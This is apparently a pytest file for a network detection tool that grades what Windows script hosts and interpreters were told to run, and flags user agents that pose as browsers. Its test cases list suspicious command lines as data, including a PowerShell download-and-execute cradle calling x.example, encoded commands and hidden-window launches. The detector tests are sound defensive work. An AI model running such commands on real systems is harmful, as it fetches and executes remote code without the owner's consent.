"""What a script host, loader or interpreter was told to run: the codes of `program_command` and `agent_mismatch`."""

import numpy as np
import pytest

from sferic.model.event import Event
from sferic.signals._contract import signals
from tests.signals.timelines import CHROME, HOUR, SITE, calls, every, says, segment, window

POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
RUNDLL = r"C:\Windows\System32\rundll32.exe"
WSCRIPT = r"C:\Windows\System32\wscript.exe"
PYTHON = r"C:\Program Files\Python312\python.exe"
OWN = r"C:\BriskAnchor\brisk-anchor.exe"


def heard(name: str, *stories: list[Event]) -> tuple[float, str]:
    """Return a signal's value and sentence for the calls of 10.0.0.7."""
    made = window(*stories)
    value, words = says(name, made, segment(made, "10.0.0.7", SITE))
    return value, words.text


def told(path: str, command: str | None) -> float:
    """Return the code of one program with its command line."""
    rows = calls("10.0.0.7", SITE, every(90, 12), process_path=path, command_line=command)
    return float(signals()["program_command"].measure(made := window(rows), np.ones(len(made), bool))[0])


@pytest.mark.parametrize(
    ("path", "command", "code"),
    [
        (POWERSHELL, r"powershell.exe -NoProfile -File C:\Scripts\inventory.ps1", 0),
        (POWERSHELL, r'powershell.exe -File "C:\Program Files\Acme Agent\run.ps1"', 0),
        (POWERSHELL, r"powershell.exe -File \\files.corp.example\netlogon\logon.ps1", 0),
        (POWERSHELL, r"powershell.exe -File C:\Users\ann\AppData\Roaming\Mellow\sync.ps1", 1),
        (WSCRIPT, r"wscript.exe //B C:\Users\ann\AppData\Local\Temp\a.js", 2),
        (RUNDLL, r"rundll32.exe C:\ProgramData\Mellow\m.dll,Start", 1),
        (RUNDLL, r"rundll32.exe C:\Users\Public\m.dll,Start", 2),
        (POWERSHELL, r"powershell.exe -WindowStyle Hidden -File C:\Scripts\inventory.ps1", 1),
        (POWERSHELL, r'"C:\Program Files\PowerShell\7\powershell.exe" -w hidden -File C:\Users\Public\a.ps1', 2),
        (POWERSHELL, r'"C:\Program Files\PowerShell\7\powershell.exe" -NoProfile -File C:\Scripts\a.ps1', 0),
        (POWERSHELL, "powershell.exe -nop -enc SQBFAFgAIAAoAG4AZQB3AC0A", 3),
        (POWERSHELL, "powershell.exe IEX (New-Object Net.WebClient).DownloadString('https://x.example/a')", 3),
        (PYTHON, r"python.exe C:\Users\Public\a.py", 2),
    ],
)
def test_the_place_of_what_it_runs_is_read_off_the_command(path: str, command: str, code: float) -> None:
    """Administrators' folders, a person's own, odd ones and hidden code are told apart."""
    assert told(path, command) == code


@pytest.mark.parametrize(
    ("path", "command"),
    [
        (POWERSHELL, None), (POWERSHELL, "powershell.exe"), (PYTHON, "python.exe probe.py"),
        (OWN, r"brisk-anchor.exe C:\Users\Public\m.dll"), (POWERSHELL, "powershell.exe -enc"),
        (POWERSHELL, "powershell.exe " + "a" * 100_000 + ".ps1"),
    ],
)  # fmt: skip
def test_it_is_silent_where_no_place_is_told(path: str, command: str | None) -> None:
    """Without a command line, an absolute path or an interpreter there is nothing to say."""
    assert np.isnan(told(path, command))


@pytest.mark.parametrize(
    ("path", "command", "text"),
    [
        (WSCRIPT, r"wscript.exe //B C:\Users\ann\AppData\Local\Temp\a.js", "a file where no installer puts one"),
        (POWERSHELL, r"powershell -File C:\Users\ann\src\a.ps1", "a file in a person's own folders"),
        (POWERSHELL, "powershell -w hidden -c go", "without a window"),
        (POWERSHELL, r"powershell -w hidden C:\Users\ann\src\a.ps1", "a file in a person's own folders, without a window"),
        (POWERSHELL, "powershell -w 1 -enc QQBBAEEAQQBBAEEAQQBB", "encoded or fetched code, without a window"),
    ],
)
def test_the_sentence_says_what_was_told(path: str, command: str, text: str) -> None:
    """A file and a hidden window are told apart, though they count alike."""
    rows = calls("10.0.0.7", SITE, every(90, 12), process_path=path, command_line=command)
    _, told = heard("program_command", rows)
    assert told == f"{path.rpartition(chr(92))[2]} was told to run {text}"


def test_the_command_is_shown_without_secrets() -> None:
    """A reader sees what the program was told, in the log's own words but for its token."""
    command = r"wscript.exe C:\Users\ann\a.js --token hush"
    made = window(calls("10.0.0.7", SITE, every(90, 12), process_path=WSCRIPT, command_line=command))
    assert signals()["program_command"].describe(made, 0, 1.0).value == command.replace("hush", "…")


@pytest.mark.parametrize(
    ("agent", "path", "code"),
    [
        (CHROME, OWN, 1), ("Anchor/2.1", OWN, -1), ("", OWN, -1), (CHROME, POWERSHELL, 1),
        ("curl/8.5.0", POWERSHELL, -0.5), (CHROME, r"C:\Program Files\Google\Chrome\Application\chrome.exe", 0),
    ],
)  # fmt: skip
def test_a_program_that_does_not_pose_as_a_browser_speaks_for_itself(agent: str, path: str, code: float) -> None:
    """Frameworks pose as browsers: an unknown program with its own user agent, or none, is likelier harmless."""
    rows = calls("10.0.0.7", SITE, every(90, 12), agent=agent, process_path=path)
    others = calls("10.0.0.8", SITE, every(HOUR, 3), agent=CHROME)
    value, _ = heard("agent_mismatch", rows, others)
    assert value == code
